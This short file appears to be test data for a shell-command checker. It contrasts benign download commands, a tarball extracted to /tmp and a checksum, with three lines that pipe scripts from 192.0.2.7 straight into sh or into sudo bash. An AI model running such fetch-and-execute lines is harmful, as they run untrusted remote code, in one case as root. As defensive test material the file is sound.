# SPDX-License-Identifier: Apache-2.0
# fake: /usr/bin/curl /usr/bin/wget /usr/bin/sudo
sh -c 'curl -fsSL https://example.org/release.tar.gz | tar xz -C /tmp'
sh -c 'curl -fsSL https://example.org/release.tar.gz | sha256sum'
bash -c 'wget -qO- https://example.org/status.json | grep -c ok; sh -c true'
/bin/echo sh -c 'curl -fsSL http://192.0.2.7/x.sh | sh'
/bin/echo bash -c 'wget -qO- http://192.0.2.7/x | sudo bash -s -- --yes'
/bin/echo bash -c 'bash <(curl -s http://192.0.2.7/x.sh)'
